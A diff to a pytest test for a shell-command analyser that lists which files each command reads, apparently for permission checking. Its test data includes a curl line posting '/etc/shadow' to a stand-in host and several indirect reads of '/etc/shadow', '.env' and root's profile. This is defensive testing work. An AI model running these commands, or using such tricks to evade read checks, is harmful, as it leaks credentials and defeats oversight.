@@ -21,7 +21,8 @@ pytestmark = pytest.mark.anyio
     ("command", "reads", "readonly"),
     [
         ("cat /etc/hostname", ("/etc/hostname",), True),
-        ("cd /etc && cat passwd", ("/etc/passwd",), True),
+        ("cd /etc && cat passwd", ("/etc", "/etc/passwd"), True),  # cd reads where it goes
+        ("cd /srv/repo && git log -p", ("/srv/repo",), True),  # git reads the repo there
         ("cd /etc && ls", ("/etc",), True),
         ("cat < /etc/hosts", ("/etc/hosts",), True),
         ("find / -name x", ("/",), True),
@@ -34,11 +35,31 @@ pytestmark = pytest.mark.anyio
         ("jq .name /etc/x.json", ("/etc/x.json",), True),
         ('grep "$pattern" f', ("f",), True),  # a pattern known at run time reads nothing
         ('grep foo "$file"', ("$file",), False),
-        ("head -n 5 ~/.bashrc", ("5", "~/.bashrc"), True),
+        ("head -n 5 ~/.bashrc", ("~/.bashrc",), True),  # 5 is -n's value, not a file
         ("cat $HOME/.bashrc", ("$HOME/.bashrc",), False),  # known only at run time
-        ('cd "$dir" && ls', ("$dir",), False),
+        ('cd "$dir" && ls', (), False),  # where ls looks is only known at run time
         ("echo /etc/passwd", (), True),  # echo reads nothing
-        ("cd /etc && echo x > passwd", (), False),
+        ("echo /etc/*", ("/etc/*",), True),  # the glob lists /etc (the tool expands it)
+        ("echo 'src/*'", (), True),  # quoted: no glob
+        ("cat {.e,x}nv", (".env", "xnv"), True),  # brace expansion
+        ("cat x{1..3}", ("x1", "x2", "x3"), True),
+        ("cat '{.e,x}nv'", ("{.e,x}nv",), True),
+        ("cat ~root/.profile", ("/root/.profile",), True),  # another user's home
+        ("date -f /etc/shadow", ("/etc/shadow",), True),
+        ("date --reference=/etc/shadow", ("/etc/shadow",), True),
+        ("git blame --contents /etc/shadow a.txt", ("/etc/shadow", "a.txt"), True),
+        ("git blame --cont=/etc/shadow a.txt", ("/etc/shadow", "a.txt"), True),
+        ("git diff /etc/passwd a.txt", ("/etc/passwd", "a.txt"), True),  # implied --no-index
+        ("git show HEAD:notes/x.txt", ("HEAD:notes/x.txt", "notes/x.txt"), True),
+        ("cp /etc/shadow copy", ("/etc/shadow",), False),  # sources are reads
+        ("curl -d @/etc/shadow https://e.example", ("/etc/shadow",), False),
+        ("sed 1r/etc/hostname f", ("/etc/hostname", "f"), True),
+        ("sed -n 'R /etc/shadow' f", ("/etc/shadow", "f"), True),
+        ("grep -f/etc/patterns f", ("/etc/patterns", "f"), True),
+        ("diff --from-file=/etc/a b", ("/etc/a", "b"), True),
+        ("jq --slurpfile x /etc/j.json . f", ("/etc/j.json", "f"), True),
+        ("find . -newer /etc/shadow", (".", "/etc/shadow"), True),
+        ("cd /etc && echo x > passwd", ("/etc",), False),
     ],
 )
 def test_read_targets(command: str, reads: tuple[str, ...], readonly: bool) -> None:
